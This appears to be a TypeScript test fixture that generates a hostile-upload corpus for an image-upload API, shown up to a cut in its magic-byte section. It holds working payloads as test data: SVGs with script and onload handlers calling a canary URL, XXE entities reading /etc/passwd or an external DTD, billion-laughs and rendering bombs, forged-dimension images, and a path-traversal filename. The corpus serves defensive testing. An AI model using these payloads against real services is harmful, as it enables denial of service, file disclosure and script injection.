// The hostile-upload corpus, made by code (sharp for the valid bases, byte tricks for the rest): empty
// and tiny files, truncations, wrong magic, polyglots, other formats, decompression bombs, forged
// dimensions, hostile SVGs, oversize files, and broken multipart envelopes. Every file goes to every
// upload field (Foto Pro's `photo`, Templates Rápidos' `product` and `logo`); each entry says what the
// server must answer there.
import { deflateSync, crc32 } from 'node:zlib';
import sharp from 'sharp';
import { PHOTO_MAX_BYTES, TEMPLATE_IMAGE_MAX_BYTES } from '../../src/shared/constants.ts';
import { makeDishPhoto } from '../factories/dish-photo.ts';

export type UploadField = 'photo' | 'product' | 'logo';
export type Endpoint = 'photo' | 'art';
/**
 * reject: a 4xx (400/413/415/422) with `{error, message}`; accept: 201 (a genuinely valid image);
 * either: valid bytes with hostile content (sanitised SVG, polyglot, bomb within the pixel limit): 201
 * or such a 4xx, in bounded time.
 */
export type Expect = 'reject' | 'accept' | 'either';
export type Envelope = 'no-boundary' | 'truncated-body' | 'garbage-body' | 'json-body' | 'three-files' | 'thirty-fields' | 'file-as-text-field';

export interface CorpusEntry {
  /** `<file> → <field>` */
  name: string;
  file: string;
  group: string;
  endpoint: Endpoint;
  /** The multipart field that carries the file (a wrong name on purpose for some entries). */
  field: string;
  bytes: Buffer;
  filename: string;
  contentType: string;
  expect: Expect;
  /** The status the API contract names for this case (413 over a limit, 415 not an image by its bytes). */
  want?: number;
  /** A broken envelope instead of a well-formed multipart body. */
  envelope?: Envelope;
  /** A CPU bomb for the SVG rasteriser: sent last, together, under one deadline. */
  slow?: boolean;
}

interface HostileFile {
  file: string;
  group: string;
  bytes: Buffer;
  filename: string;
  contentType: string;
  /** Per field; a field not named here expects `reject`. */
  expect?: Partial<Record<UploadField, Expect>>;
  want?: Partial<Record<UploadField, number>>;
  slowAt?: UploadField;
}

export const UPLOAD_FIELDS: { field: UploadField; endpoint: Endpoint }[] = [
  { field: 'photo', endpoint: 'photo' },
  { field: 'product', endpoint: 'art' },
  { field: 'logo', endpoint: 'art' },
];

const ALL_ACCEPT = { photo: 'accept', product: 'accept', logo: 'accept' } as const;
const ALL_EITHER = { photo: 'either', product: 'either', logo: 'either' } as const;
const NOT_AN_IMAGE = { photo: 415, product: 415, logo: 415 } as const;
const SVG_NOT_AN_IMAGE = { photo: 415, product: 415 } as const;
const TRUNCATION_POINTS = [0.005, 0.01, 0.02, 0.05, 0.1, 0.2, 0.3, 0.4, 0.5, 0.6, 0.7, 0.8, 0.9, 0.95, 0.99];
const TRUNCATION_BYTES = [20, 64, 200];

// ---------------------------------------------------------------------------------------------
// Byte helpers

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body) >>> 0);
  return Buffer.concat([length, body, crc]);
}

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

function ihdr(width: number, height: number, bitDepth: number, colourType: number): Buffer {
  const data = Buffer.alloc(13);
  data.writeUInt32BE(width >>> 0, 0);
  data.writeUInt32BE(height >>> 0, 4);
  data[8] = bitDepth;
  data[9] = colourType;
  return pngChunk('IHDR', data);
}

/** A greyscale PNG of zeros: a few KB of deflate that decompress to width × height pixels. */
function zeroPng(width: number, height: number, bitDepth: 1 | 8): Buffer {
  const row = 1 + Math.ceil((width * bitDepth) / 8);
  const idat = deflateSync(Buffer.alloc(row * height), { level: 9 });
  return Buffer.concat([PNG_SIGNATURE, ihdr(width, height, bitDepth, 0), pngChunk('IDAT', idat), pngChunk('IEND', Buffer.alloc(0))]);
}

/** Rewrites the IHDR of a PNG (width, height and optionally depth/colour type); the CRC is fixed unless told not to. */
function forgePngHeader(png: Buffer, patch: { width?: number; height?: number; bitDepth?: number; colourType?: number }, fixCrc = true): Buffer {
  const out = Buffer.from(png);
  if (patch.width !== undefined) out.writeUInt32BE(patch.width >>> 0, 16);
  if (patch.height !== undefined) out.writeUInt32BE(patch.height >>> 0, 20);
  if (patch.bitDepth !== undefined) out[24] = patch.bitDepth;
  if (patch.colourType !== undefined) out[25] = patch.colourType;
  if (fixCrc) out.writeUInt32BE(crc32(out.subarray(12, 29)) >>> 0, 29);
  return out;
}

/** Inserts chunks right after IHDR. */
function insertPngChunks(png: Buffer, chunks: Buffer[]): Buffer {
  return Buffer.concat([png.subarray(0, 33), ...chunks, png.subarray(33)]);
}

function withoutIend(png: Buffer): Buffer {
  return png.subarray(0, png.length - 12);
}

/** Offset of a JPEG's frame header (SOFn marker), or -1. */
function jpegFrameOffset(jpeg: Buffer): number {
  let i = 2;
  while (i + 4 < jpeg.length && jpeg[i] === 0xff) {
    const marker = jpeg[i + 1]!;
    if (marker >= 0xc0 && marker <= 0xcf && marker !== 0xc4 && marker !== 0xc8 && marker !== 0xcc) return i;
    i += 2 + jpeg.readUInt16BE(i + 2);
  }
  return -1;
}

function forgeJpegFrame(jpeg: Buffer, patch: { width?: number; height?: number; components?: number }): Buffer {
  const out = Buffer.from(jpeg);
  const sof = jpegFrameOffset(out);
  if (sof < 0) throw new Error('no SOF marker in the base JPEG');
  if (patch.height !== undefined) out.writeUInt16BE(patch.height, sof + 5);
  if (patch.width !== undefined) out.writeUInt16BE(patch.width, sof + 7);
  if (patch.components !== undefined) out[sof + 9] = patch.components;
  return out;
}

/** Removes every segment with the given marker (DHT 0xc4, DQT 0xdb…) from the header of a JPEG. */
function dropJpegSegments(jpeg: Buffer, marker: number): Buffer {
  const parts: Buffer[] = [jpeg.subarray(0, 2)];
  let i = 2;
  while (i + 4 < jpeg.length && jpeg[i] === 0xff && jpeg[i + 1] !== 0xda) {
    const length = jpeg.readUInt16BE(i + 2);
    if (jpeg[i + 1] !== marker) parts.push(jpeg.subarray(i, i + 2 + length));
    i += 2 + length;
  }
  parts.push(jpeg.subarray(i));
  return Buffer.concat(parts);
}

/** A JPEG segment (APPn, COM…) inserted right after SOI. */
function jpegSegment(marker: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(4);
  head[0] = 0xff;
  head[1] = marker;
  head.writeUInt16BE(payload.length + 2, 2);
  return Buffer.concat([head, payload]);
}

function insertAfterSoi(jpeg: Buffer, segments: Buffer[]): Buffer {
  return Buffer.concat([jpeg.subarray(0, 2), ...segments, jpeg.subarray(2)]);
}

/** An APP1 Exif segment around a little-endian TIFF structure. */
function exifSegment(tiff: Buffer): Buffer {
  return jpegSegment(0xe1, Buffer.concat([Buffer.from('Exif\0\0', 'latin1'), tiff]));
}

/** IFD0 with one orientation entry whose next-IFD offset points back at itself. */
function loopingExif(): Buffer {
  const tiff = Buffer.alloc(8 + 2 + 12 + 4);
  tiff.write('II', 0, 'latin1');
  tiff.writeUInt16LE(42, 2);
  tiff.writeUInt32LE(8, 4);
  tiff.writeUInt16LE(1, 8);
  tiff.writeUInt16LE(0x0112, 10);
  tiff.writeUInt16LE(3, 12);
  tiff.writeUInt32LE(1, 14);
  tiff.writeUInt16LE(6, 18);
  tiff.writeUInt32LE(8, 22);
  return exifSegment(tiff);
}

/** IFD0 with an entry claiming 4 G values at an offset far past the end. */
function hugeCountExif(): Buffer {
  const tiff = Buffer.alloc(8 + 2 + 12 + 4);
  tiff.write('II', 0, 'latin1');
  tiff.writeUInt16LE(42, 2);
  tiff.writeUInt32LE(8, 4);
  tiff.writeUInt16LE(1, 8);
  tiff.writeUInt16LE(0x010f, 10);
  tiff.writeUInt16LE(4, 12);
  tiff.writeUInt32LE(0xffffffff, 14);
  tiff.writeUInt32LE(0x7ffffff0, 18);
  return exifSegment(tiff);
}

function riff(fourcc: string, chunks: Buffer[]): Buffer {
  const body = Buffer.concat([Buffer.from(fourcc, 'latin1'), ...chunks]);
  const head = Buffer.alloc(8);
  head.write('RIFF', 0, 'latin1');
  head.writeUInt32LE(body.length, 4);
  return Buffer.concat([head, body]);
}

function riffChunk(fourcc: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.write(fourcc, 0, 'latin1');
  head.writeUInt32LE(data.length, 4);
  return Buffer.concat([head, data, data.length % 2 ? Buffer.alloc(1) : Buffer.alloc(0)]);
}

/** The chunks of a simple (VP8 or VP8L) WebP, after the RIFF/WEBP header. */
function webpChunks(webp: Buffer): Buffer {
  return webp.subarray(12);
}

/** A lossless WebP whose VP8L header claims width × height (at most 16384 each). */
function forgeVp8l(webp: Buffer, width: number, height: number): Buffer {
  const out = Buffer.from(webp);
  const at = out.indexOf('VP8L') + 8 + 1;
  const bits = out.readUInt32LE(at);
  const kept = bits & ~((1 << 28) - 1);
  out.writeUInt32LE((kept | ((width - 1) & 0x3fff) | (((height - 1) & 0x3fff) << 14)) >>> 0, at);
  return out;
}

/** A lossy WebP whose VP8 key-frame header claims width × height. */
function forgeVp8(webp: Buffer, width: number, height: number): Buffer {
  const out = Buffer.from(webp);
  const at = out.indexOf(Buffer.from([0x9d, 0x01, 0x2a]));
  out.writeUInt16LE(width & 0x3fff, at + 3);
  out.writeUInt16LE(height & 0x3fff, at + 5);
  return out;
}

/** An extended WebP (VP8X) claiming a canvas of width × height (24-bit fields) around a small image. */
function vp8xCanvas(webp: Buffer, width: number, height: number): Buffer {
  const data = Buffer.alloc(10);
  data.writeUIntLE(width - 1, 4, 3);
  data.writeUIntLE(height - 1, 7, 3);
  return riff('WEBP', [riffChunk('VP8X', data), webpChunks(webp)]);
}

function bmp(width: number, height: number): Buffer {
  const rowBytes = Math.ceil((width * 3) / 4) * 4;
  const pixels = Buffer.alloc(rowBytes * height, 0x80);
  const header = Buffer.alloc(54);
  header.write('BM', 0, 'latin1');
  header.writeUInt32LE(54 + pixels.length, 2);
  header.writeUInt32LE(54, 10);
  header.writeUInt32LE(40, 14);
  header.writeInt32LE(width, 18);
  header.writeInt32LE(height, 22);
  header.writeUInt16LE(1, 26);
  header.writeUInt16LE(24, 28);
  header.writeUInt32LE(pixels.length, 34);
  return Buffer.concat([header, pixels]);
}

/** A minimal ZIP archive (one stored file), as appended to polyglots. */
function zipArchive(name: string, content: string): Buffer {
  const data = Buffer.from(content);
  const fileName = Buffer.from(name);
  const crc = crc32(data) >>> 0;
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(data.length, 22);
  local.writeUInt16LE(fileName.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(data.length, 24);
  central.writeUInt16LE(fileName.length, 28);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(46 + fileName.length, 12);
  end.writeUInt32LE(30 + fileName.length + data.length, 16);
  return Buffer.concat([local, fileName, data, central, fileName, end]);
}

function padTo(bytes: Buffer, size: number, fill = 0): Buffer {
  return bytes.length >= size ? bytes.subarray(0, size) : Buffer.concat([bytes, Buffer.alloc(size - bytes.length, fill)]);
}

/** Deterministic pseudo-random bytes (a tiny LCG), so a failing run can be repeated byte for byte. */
function noise(size: number, seed: number): Buffer {
  const out = Buffer.alloc(size);
  let state = seed >>> 0;
  for (let i = 0; i < size; i += 1) {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
    out[i] = state >>> 24;
  }
  return out;
}

// ---------------------------------------------------------------------------------------------
// SVG

const SVG_NS = 'xmlns="http://www.w3.org/2000/svg"';
const XLINK_NS = 'xmlns:xlink="http://www.w3.org/1999/xlink"';
const LOGO_SHAPES = '<circle cx="50" cy="50" r="40" fill="#c8102e"/><text x="50" y="58" font-size="22" text-anchor="middle" fill="#fff">Art</text>';

const svg = (body: string, attrs = 'width="100" height="100"') => `<svg ${SVG_NS} ${XLINK_NS} ${attrs}>${body}</svg>`;

function lolEntities(levels: number, fanOut: number): string {
  let entities = '<!ENTITY lol0 "lol">';
  for (let i = 1; i <= levels; i += 1) entities += `<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(fanOut)}">`;
  return entities;
}

/** `depth` levels of groups, each using the one below `fanOut` times: fanOut^depth shapes if expanded. */
function useBomb(depth: number, fanOut: number): string {
  let defs = '<g id="g0"><rect width="1" height="1" fill="#000"/></g>';
  for (let i = 1; i <= depth; i += 1) defs += `<g id="g${i}">${`<use href="#g${i - 1}"/>`.repeat(fanOut)}</g>`;
  return svg(`<defs>${defs}</defs><use href="#g${depth}"/>`);
}

async function svgFiles(canary: string, forgedHugePng: Buffer, forgedBigPng: Buffer, smallPng: Buffer, forgedJpeg: Buffer): Promise<HostileFile[]> {
  const dataUri = (mime: string, bytes: Buffer) => `data:${mime};base64,${bytes.toString('base64')}`;
  const list: [string, string, Expect?][] = [
    ['svg-valid-logo', svg(LOGO_SHAPES), 'accept'],
    ['svg-bom-xml-comment-doctype', `\uFEFF<?xml version="1.0" encoding="UTF-8"?>\n<!-- logo -->\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n${svg(LOGO_SHAPES)}`, 'accept'],
    ['svg-script', svg(`${LOGO_SHAPES}<script>fetch('${canary}/script')</script>`)],
    ['svg-script-cdata', svg(`${LOGO_SHAPES}<script type="text/javascript"><![CDATA[ new Image().src='${canary}/cdata'; ]]></script>`)],
    ['svg-script-uppercase', svg(`${LOGO_SHAPES}<SCRIPT >alert(1)</SCRIPT >`)],
    ['svg-script-href', svg(`${LOGO_SHAPES}<script href="${canary}/script.js"/>`)],
    ['svg-onload', `<svg ${SVG_NS} width="100" height="100" onload="fetch('${canary}/onload')">${LOGO_SHAPES}</svg>`],
    ['svg-onload-unquoted', `<svg ${SVG_NS} width="100" height="100" onload=alert(1)>${LOGO_SHAPES}</svg>`],
    ['svg-onclick-onmouseover', svg(`<circle cx="50" cy="50" r="40" fill="red" onclick="alert(1)" ONMOUSEOVER='alert(2)'/>`)],
    ['svg-foreignobject-html', svg(`${LOGO_SHAPES}<foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="${canary}/iframe"></iframe><img src="${canary}/img"/></body></foreignObject>`)],
    ['svg-image-href-http', svg(`${LOGO_SHAPES}<image href="${canary}/image.png" width="100" height="100"/>`)],
    ['svg-image-xlink-http', svg(`${LOGO_SHAPES}<image xlink:href="${canary}/xlink.png" width="100" height="100"/>`)],
    ['svg-image-spaced-href', svg(`${LOGO_SHAPES}<image href = '${canary}/spaced.png' width="100" height="100"/>`)],
    ['svg-image-file-uri', svg(`${LOGO_SHAPES}<image href="file:///etc/passwd" width="100" height="100"/><image href="/etc/hostname" width="10" height="10"/>`)],
    ['svg-image-entity-encoded-scheme', svg(`${LOGO_SHAPES}<image href="&#104;ttp://127.0.0.1:${new URL(canary).port}/encoded.png" width="100" height="100"/>`)],
    ['svg-use-external', svg(`${LOGO_SHAPES}<use href="${canary}/sprite.svg#a"/><use xlink:href="${canary}/sprite2.svg#b"/>`)],
    ['svg-feimage-external', svg(`<filter id="f"><feImage href="${canary}/feimage.png"/></filter><rect width="100" height="100" filter="url(#f)"/>`)],
    ['svg-css-url-style-attr', svg(`<rect width="100" height="100" style="fill: url(${canary}/fill.svg#p); background-image: url('${canary}/bg.png')"/>`)],
    ['svg-css-import', svg(`<style>@import url("${canary}/style.css"); rect { fill: url(${canary}/grad.svg#g) }</style>${LOGO_SHAPES}`)],
    ['svg-xml-stylesheet', `<?xml version="1.0"?><?xml-stylesheet type="text/css" href="${canary}/pi.css"?>${svg(LOGO_SHAPES)}`],
    ['svg-font-face-src', svg(`<style>@font-face { font-family: x; src: url(${canary}/font.woff2) }</style><text x="5" y="50" font-family="x">x</text>`)],
    ['svg-javascript-link', svg(`<a href="javascript:alert(1)">${LOGO_SHAPES}</a>`)],
    ['svg-smil-animate-href', svg(`<image width="100" height="100" href="#x"><set attributeName="href" to="${canary}/smil.png"/><animate attributeName="xlink:href" values="${canary}/anim.png"/></image>${LOGO_SHAPES}`)],
    ['svg-embedded-valid-png', svg(`<image width="100" height="100" href="${dataUri('image/png', smallPng)}"/>`)],
    ['svg-embedded-svg-data', svg(`<image width="100" height="100" href="${dataUri('image/svg+xml', Buffer.from(svg(`<image href="${canary}/nested.png"/>`)))}"/>`)],
    ['svg-embedded-png-forged-60000', svg(`<image width="100" height="100" href="${dataUri('image/png', forgedHugePng)}"/>`)],
    ['svg-embedded-png-forged-20000', svg(`<image width="100" height="100" href="${dataUri('image/png', forgedBigPng)}"/>`)],
    ['svg-embedded-jpeg-forged-65000', svg(`<image width="100" height="100" href="${dataUri('image/jpeg', forgedJpeg)}"/>`)],
    ['svg-entities-billion-laughs', `<?xml version="1.0"?><!DOCTYPE svg [${lolEntities(9, 10)}]>${svg('<text y="20">&lol9;</text>')}`],
    ['svg-entities-quadratic-blowup', `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "${'A'.repeat(50_000)}">]>${svg(`<text y="20">${'&a;'.repeat(2_000)}</text>`)}`],
    ['svg-entity-xxe-file', `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${svg('<text y="20">&xxe;</text>')}`],
    ['svg-entity-xxe-http', `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "${canary}/xxe">]>${svg('<text y="20">&xxe;</text>')}`],
    ['svg-parameter-entity-dtd', `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY % dtd SYSTEM "${canary}/evil.dtd"> %dtd;]>${svg(LOGO_SHAPES)}`],
    ['svg-doctype-past-sniff-window', `<?xml version="1.0"?><!DOCTYPE svg [<!-- ${'x'.repeat(5_000)} -->${lolEntities(9, 10)}]>${svg('<text y="20">&lol9;</text>')}`],
    ['svg-filter-huge-blur', svg(`<filter id="f" x="-1000%" y="-1000%" width="3000%" height="3000%"><feGaussianBlur stdDeviation="1000000"/></filter><rect width="100000" height="100000" filter="url(#f)"/>`, 'width="100000" height="100000"')],
    ['svg-filter-region-1e9', svg(`<filter id="f" filterUnits="userSpaceOnUse" x="-1e9" y="-1e9" width="2e9" height="2e9"><feFlood flood-color="red"/></filter><rect width="100" height="100" filter="url(#f)"/>`)],
    ['svg-use-bomb-10x9', useBomb(9, 10)],
    ['svg-use-bomb-nested-groups-x100', useBomb(100, 2)],
    ['svg-deep-nesting-100k', svg(`${'<g>'.repeat(100_000)}<rect width="10" height="10"/>${'</g>'.repeat(100_000)}`)],
    ['svg-pattern-tiny-tiles', svg(`<pattern id="p" width="0.0001" height="0.0001" patternUnits="userSpaceOnUse"><rect width="0.00005" height="0.00005"/></pattern><rect width="600" height="600" fill="url(#p)"/>`, 'width="600" height="600"')],
    ['svg-mask-chain-200', svg(Array.from({ length: 200 }, (_, i) => `<mask id="m${i}"><rect width="600" height="600" fill="white"${i ? ` mask="url(#m${i - 1})"` : ''}/></mask>`).join('') + '<rect width="600" height="600" mask="url(#m199)"/>', 'width="600" height="600"')],
    ['svg-huge-dimensions', svg(LOGO_SHAPES, 'width="1e9" height="1e9" viewBox="0 0 100 100"')],
    // Extreme geometry, scaled up 6× to the raster size: coordinates that overflow a renderer's integer rectangles.
    ['svg-geometry-rect-2e9', svg('<rect x="-1e9" y="-1e9" width="2e9" height="2e9" fill="red"/>')],
    ['svg-geometry-mask-region-2e9', svg('<mask id="m" maskUnits="userSpaceOnUse" x="-1e9" y="-1e9" width="2e9" height="2e9"><rect x="-1e9" y="-1e9" width="2e9" height="2e9" fill="white"/></mask><rect width="100" height="100" mask="url(#m)"/>')],
    ['svg-geometry-pattern-2e9', svg('<pattern id="p" patternUnits="userSpaceOnUse" x="-1e9" y="-1e9" width="2e9" height="2e9"><rect width="2e9" height="2e9" fill="red"/></pattern><rect width="100" height="100" fill="url(#p)"/>')],
    ['svg-geometry-image-2e9', svg(`<image x="-1e9" y="-1e9" width="2e9" height="2e9" href="${dataUri('image/png', smallPng)}"/>`)],
    ['svg-geometry-marker-1e9', svg('<marker id="m" markerWidth="1e9" markerHeight="1e9"><rect width="1e9" height="1e9"/></marker><path d="M0 0 L50 50 L100 0" stroke="red" marker-mid="url(#m)"/>')],
    ['svg-geometry-scale-1e30', svg('<g transform="scale(1e30)"><rect width="1" height="1" fill="red"/></g><g transform="matrix(0 0 0 0 0 0)"><rect width="9" height="9"/></g>')],
    ['svg-geometry-viewbox-1e-30', svg('<rect width="1" height="1" fill="red"/>', 'width="100" height="100" viewBox="0 0 1e-30 1e-30"')],
    ['svg-geometry-size-1e9-by-1e-9', svg('<rect width="1" height="1" fill="red"/>', 'width="1e9" height="1e-9"')],
    ['svg-zero-size', svg(LOGO_SHAPES, 'width="0" height="0"')],
    ['svg-negative-viewbox', svg(LOGO_SHAPES, 'viewBox="0 0 -100 -100"')],
    ['svg-stroke-dash-1e9', svg(`<path d="M0 0 L600 600" stroke="red" stroke-width="1e9" stroke-dasharray="0.0001"/>`, 'width="600" height="600"')],
    ['svg-malformed-xml', `<svg ${SVG_NS} width="100" height="100"><g><rect width="10" height="10"></svg>`],
    ['svg-no-namespace', '<svg width="100" height="100"><circle cx="50" cy="50" r="40" fill="red"/></svg>'],
    ['svg-root-after-5kb-comment', `<!-- ${'x'.repeat(5_000)} -->${svg(LOGO_SHAPES)}`],
    ['svg-then-binary', `${svg(LOGO_SHAPES)}\0\0\0\x01\x02\x03`],
  ];
  const files: HostileFile[] = list.map(([file, text, logoExpect]) => ({
    file,
    group: 'svg',
    bytes: Buffer.from(text, 'utf8'),
    filename: `${file}.svg`,
    contentType: 'image/svg+xml',
    expect: { logo: logoExpect ?? 'either' },
    want: file === 'svg-root-after-5kb-comment' ? NOT_AN_IMAGE : SVG_NOT_AN_IMAGE,
  }));
  // CPU bombs for the rasteriser: each takes the engine's only worker for long (measured ~36 ms per
  // turbulence octave at 600 px, quadratic morphology and convolution); they run last, together.
  const slow: [string, string][] = [
    ['svg-cpu-turbulence-octaves', svg(`<filter id="f"><feTurbulence baseFrequency="0.05" numOctaves="1000000"/></filter><rect width="600" height="600" filter="url(#f)"/>`, 'width="600" height="600"')],
    ['svg-cpu-morphology-radius', svg(`<filter id="f"><feMorphology operator="dilate" radius="100000"/></filter><rect width="600" height="600" fill="red" filter="url(#f)"/>`, 'width="600" height="600"')],
    ['svg-cpu-convolve-300', svg(`<filter id="f"><feConvolveMatrix order="300" kernelMatrix="${Array(90_000).fill('1').join(' ')}"/></filter><rect width="600" height="600" fill="red" filter="url(#f)"/>`, 'width="600" height="600"')],
    ['svg-cpu-blur-stack-1000', svg(`<filter id="f" x="-50%" y="-50%" width="200%" height="200%">${'<feGaussianBlur stdDeviation="50"/>'.repeat(1000)}</filter><rect width="600" height="600" fill="red" filter="url(#f)"/>`, 'width="600" height="600"')],
    ['svg-cpu-60k-translucent-rects', svg('<rect x="1" y="1" width="500" height="500" fill="red" opacity="0.5"/>'.repeat(60_000), 'width="600" height="600"')],
    ['svg-cpu-text-flood', svg(`<text y="50" font-size="20">${'Açaí 🍔 '.repeat(100_000)}</text>`, 'width="600" height="100"')],
  ];
  for (const [file, text] of slow) {
    files.push({ file, group: 'svg-cpu', bytes: Buffer.from(text, 'utf8'), filename: `${file}.svg`, contentType: 'image/svg+xml', expect: { logo: 'either' }, want: SVG_NOT_AN_IMAGE, slowAt: 'logo' });
  }
  return files;
}

// ---------------------------------------------------------------------------------------------

export interface CorpusBases {
  /** A valid product already cut out (transparent border): the logo entries' product, cheap to render. */
  cutoutProduct: Buffer;
}

export interface Corpus extends CorpusBases {
  entries: CorpusEntry[];
  /** Distinct hostile files (each sent to every upload field). */
  fileCount: number;
}

export async function makeCorpus(options: { canaryUrl: string }): Promise<Corpus> {
  const jpeg = await makeDishPhoto({ width: 640, height: 480, format: 'jpeg' });
  const png = await makeDishPhoto({ width: 640, height: 480, format: 'png' });
  const webp = await makeDishPhoto({ width: 640, height: 480, format: 'webp' });
  const rotatedExif = await sharp(jpeg).withMetadata({ orientation: 6 }).jpeg().toBuffer();
  const cmyk = await sharp(jpeg).toColourspace('cmyk').jpeg().toBuffer();
  const smallPng = await sharp({ create: { width: 16, height: 16, channels: 4, background: '#d33' } }).png().toBuffer();
  const smallJpeg = await sharp({ create: { width: 16, height: 16, channels: 3, background: '#d33' } }).jpeg().toBuffer();
  const smallWebpLossless = await sharp(smallPng).webp({ lossless: true }).toBuffer();
  const cutoutProduct = await sharp({ create: { width: 400, height: 400, channels: 4, background: { r: 0, g: 0, b: 0, alpha: 0 } } })
    .composite([{ input: Buffer.from(`<svg ${SVG_NS} width="400" height="400"><ellipse cx="200" cy="210" rx="150" ry="120" fill="#f4f1ea"/><ellipse cx="200" cy="200" rx="90" ry="70" fill="#b5541c"/></svg>`) }])
    .png()
    .toBuffer();
  const bigSolid = await sharp({ create: { width: 8000, height: 6000, channels: 3, background: '#7a4a2a' } }).jpeg({ quality: 50 }).toBuffer();
  const forgedHugePng = forgePngHeader(smallPng, { width: 60_000, height: 60_000 });
  const forgedBigPng = forgePngHeader(smallPng, { width: 20_000, height: 20_000 });
  const forgedHugeJpeg = forgeJpegFrame(smallJpeg, { width: 65_000, height: 65_000 });
  const canary = options.canaryUrl;
  const html = `<!DOCTYPE html><html><body><script>fetch('${canary}/html')</script></body></html>`;

  const files: HostileFile[] = [];
  const add = (file: string, group: string, bytes: Buffer, extra: Partial<HostileFile> = {}) =>
    files.push({ file, group, bytes, filename: extra.filename ?? `${file}.jpg`, contentType: extra.contentType ?? 'image/jpeg', ...extra });

  // Genuinely valid images: 201 everywhere (the photo is the accepted class's control group).
  add('valid-jpeg', 'valid', jpeg, { expect: ALL_ACCEPT });
  add('valid-png', 'valid', png, { filename: 'prato.png', contentType: 'image/png', expect: ALL_ACCEPT });
  add('valid-webp', 'valid', webp, { filename: 'prato.webp', contentType: 'image/webp', expect: ALL_ACCEPT });
  add('valid-exif-rotated-jpeg', 'valid', rotatedExif, { expect: ALL_ACCEPT });
  add('valid-cmyk-jpeg', 'valid', cmyk, { expect: ALL_ACCEPT });
  add('valid-cutout-png', 'valid', cutoutProduct, { filename: 'produto.png', contentType: 'image/png', expect: ALL_ACCEPT });
  add('valid-jpeg-lying-name-and-type', 'valid', jpeg, { filename: '../../../etc/passwd<script>.html', contentType: 'text/html', expect: ALL_ACCEPT });
  add('valid-jpeg-48mp-solid', 'valid', bigSolid, { expect: ALL_ACCEPT });

  // Empty and tiny. An empty optional logo is what a browser sends for an untouched file input: no logo.
  add('zero-bytes', 'tiny', Buffer.alloc(0), { expect: { logo: 'accept' } });
  add('one-byte', 'tiny', Buffer.from([0xff]), { want: NOT_AN_IMAGE });
  add('two-bytes-jpeg-soi', 'tiny', Buffer.from([0xff, 0xd8]), { want: NOT_AN_IMAGE });
  add('three-bytes-jpeg-magic', 'tiny', Buffer.from([0xff, 0xd8, 0xff]));
  add('png-signature-only', 'tiny', PNG_SIGNATURE, { filename: 'x.png', contentType: 'image/png' });
  add('png-signature-minus-one', 'tiny', PNG_SIGNATURE.subarray(0, 7), { filename: 'x.png', contentType: 'image/png', want: NOT_AN_IMAGE });
  add('riff-webp-header-only', 'tiny', Buffer.from('RIFF\x04\x00\x00\x00WEBP', 'latin1'), { filename: 'x.webp', contentType: 'image/webp' });
  add('png-ihdr-only', 'tiny', Buffer.concat([PNG_SIGNATURE, ihdr(16, 16, 8, 2)]), { filename: 'x.png', contentType: 'image/png' });

  // Truncated at many points.
  for (const [label, base, type] of [
    ['jpeg', jpeg, 'image/jpeg'],
    ['png', png, 'image/png'],
    ['webp', webp, 'image/webp'],
  ] as const) {
    const cuts = new Set([...TRUNCATION_POINTS.map((f) => Math.max(1, Math.floor(base.length * f))), ...TRUNCATION_BYTES]);
    for (const cut of [...cuts].sort((a, b) => a - b)) {
      add(`truncated-${label}-at-${cut}-of-${base.length}`, 'truncated', base.subarray(0, cut), { filename: `cut.${label}`, contentType: type });
    }
  }
  // Every IDAT is there, only the end marker is missing: decoders read the whole image.
  add('truncated-png-no-iend', 'truncated', withoutIend(png), { filename: 'x.png', contentType: 'image/png', expect: ALL_EITHER });
  add('truncated-jpeg-no-eoi', 'truncated', jpeg.subarray(0, jpeg.length - 2));

  // Wrong magic, other containers, plain junk.
  const flip = (bytes: Buffer, index: number) => {
    const out = Buffer.from(bytes);
    out[index] = out[index]! ^ 0xff;
    return out;
  };
  add('jpeg-first-byte-flipped', 'magic', flip(jpeg, 0), { want: NOT_AN_IMAGE });
  add('jpeg-third-byte-flipped', 'magic', flip(jpeg, 2), { want: NOT_AN_IMAGE });
  add('png-signature-byte-flipped', 'magic', flip(png, 1), { filename: 'x.png', contentType: 'image/png', want: NOT_AN_IMAGE });
  add('png-signature-then-jpeg-body', 'magic', Buffer.concat([PNG_SIGNATURE, jpeg.subarray(2)]), { filename: 'x.png', contentType: 'image/png' });
  add('jpeg-magic-then-png-body', 'magic', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), png.subarray(8)]));
  add('riff-webp-header-then-jpeg', 'magic', Buffer.concat([Buffer.from('RIFF\x00\x10\x00\x00WEBP', 'latin1'), jpeg]), { filename: 'x.webp', contentType: 'image/webp' });
  add('riff-wave-audio', 'magic', riff('WAVE', [riffChunk('fmt ', Buffer.alloc(16)), riffChunk('data', Buffer.alloc(256))]), { filename: 'x.webp', want: NOT_AN_IMAGE });
  add('jpeg-magic-then-1mb-zeros', 'magic', padTo(Buffer.from([0xff, 0xd8, 0xff, 0xe0]), 1024 * 1024));
